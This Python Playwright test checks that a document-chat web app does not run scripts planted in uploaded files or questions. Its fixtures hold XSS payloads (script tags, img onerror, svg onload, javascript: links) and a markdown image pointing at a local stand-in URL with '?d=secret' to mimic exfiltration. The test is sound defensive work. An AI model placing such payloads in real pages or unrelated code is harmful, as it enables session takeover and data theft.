"""A file that somebody made to take over the page of whoever reads it. Foreign requests and refused scripts fail in `open_page` itself."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect

from tests.browser.acting import ask, drop, ended, sign_in
from tests.browser.conftest import OpenPage

TAKE_OVER = "document.documentElement.dataset.taken=1"
EVIL = (
    f'<script>{TAKE_OVER}</script><img src=x onerror="{TAKE_OVER}"> The tide table of Nordhafen says ebb at nine [1] '
    f"[2](javascript:{TAKE_OVER}) ![x](http://127.0.0.1:59999/?d=secret) `[1]` <svg onload={TAKE_OVER}>"
)
TITLE = f"<img src=x onerror={TAKE_OVER}>"
NAME = f"{TITLE}.txt"
HTML = f"<title>{TITLE.replace('<', '&lt;')}</title><h1>Tides</h1><p>{EVIL.replace('<', '&lt;')}</p><script>{TAKE_OVER}</script>"


@pytest.fixture
def page(open_page: OpenPage) -> Page:
    """Ada's page, with both files on the shelf and read."""
    opened = open_page()
    sign_in(opened)
    opened.goto("/w/team/documents/")
    drop(opened, {NAME: EVIL.encode(), "tides.html": HTML.encode()})
    expect(opened.get_by_role("row").filter(has_text=TITLE).filter(has_text="Ready")).to_have_count(2)
    return opened


def test_it_takes_nothing_over(page: Page) -> None:
    page.goto("/w/team/")
    answer = ended(ask(page, f"What does the tide table of Nordhafen say? <img src=x onerror={TAKE_OVER}>"))
    answer.locator("button.marker").first.click()
    expect(page.locator("mark").first).to_contain_text("Nordhafen")
    page.reload()
    ended(page.locator("chat-answer").first)
    assert page.locator("[data-taken]").count() == 0
